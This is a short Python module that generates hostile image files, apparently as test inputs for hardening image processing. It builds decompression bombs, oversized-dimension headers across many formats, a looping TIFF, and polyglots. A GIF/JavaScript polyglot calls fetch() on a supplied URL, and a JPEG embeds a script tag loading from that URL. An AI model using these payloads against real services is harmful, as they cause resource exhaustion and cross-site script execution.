"""Pictures that are larger than they look, or lead elsewhere."""

import struct
import zlib


def harmful(url):
    return {
        "png-bomb": png(30_000, 30_000),
        "png-wide": png(0x7FFFFFFF, 1),
        "png-text-bomb": png(8, 8, chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(64 << 20), 9))),
        "png-profile-bomb": png(8, 8, chunk(b"iCCP", b"p\0\0" + zlib.compress(bytes(64 << 20), 9))),
        "png-animated": png(8, 8, chunk(b"acTL", struct.pack(">II", 0x7FFFFFFF, 0))),
        "gif-bomb": b"GIF89a\xff\xff\xff\xff\xf7\0\0" + bytes(768) + b",\0\0\0\0\xff\xff\xff\xff\0\x08\xff\0;",
        "gif-and-html": b"GIF89a/*" + f"*/=1;fetch('{url}/gif')".encode(),
        "bmp-huge": b"BM" + bytes(12) + struct.pack("<IiiHHI", 40, 0x7FFFFFFF, 0x7FFFFFFF, 1, 32, 0) + bytes(20),
        "jpeg-huge": jpeg(65535, 65535),
        "jpeg-and-html": jpeg(8, 8, f"<script src='{url}/jpeg'></script>".encode()),
        "jpeg-and-zip": jpeg(8, 8) + b"PK\3\4" + bytes(60) + b"PK\5\6" + bytes(18),
        "webp-huge": b"RIFF\x1e\0\0\0WEBPVP8L\x11\0\0\0/\xff\xff\xff\xff" + bytes(13),
        "tiff-loop": b"II*\0\x08\0\0\0\x01\0\0\1\3\0\1\0\0\0\1\0\0\0\x08\0\0\0",
        "icon": b"\0\0\1\0\1\0\0\0\0\0\1\0 \0\xff\xff\xff\xff\x16\0\0\0",
        "netpbm": b"P6 65535 65535 255\n",
        "xbm": b"#define x_width 65535\n#define x_height 65535\nstatic char x_bits[] = {0x00};\n",
        "pcx": b"\x0a\x05\x01\x08\0\0\0\0\xff\xff\xff\xff" + bytes(116),
        "dds": b"DDS " + struct.pack("<7I", 124, 0x1007, 0x7FFFFFFF, 0x7FFFFFFF, 0, 0, 0) + bytes(96),
        "exr": b"v/1\1\2\0\0\0dataWindow\0box2i\0\x10\0\0\0" + struct.pack("<4i", 0, 0, 2**30, 2**30) + b"\0",
        "jpeg2000": b"\0\0\0\x0cjP  \r\n\x87\n" + bytes(8) + struct.pack(">II", 2**31 - 1, 2**31 - 1),
    }


def chunk(name, body):
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png(wide, high, more=b""):
    body = zlib.compress(bytes(1 << 20), 9)
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", wide, high, 8, 6, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + more + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def jpeg(wide, high, comment=b""):
    said = b"\xff\xfe" + struct.pack(">H", 2 + len(comment)) + comment if comment else b""
    sides = b"\xff\xc0\0\x0b\x08" + struct.pack(">HH", high, wide) + b"\1\1\x11\0"
    return b"\xff\xd8" + said + sides + b"\xff\xda\0\x08\1\1\0\0?\0" + bytes(64) + b"\xff\xd9"
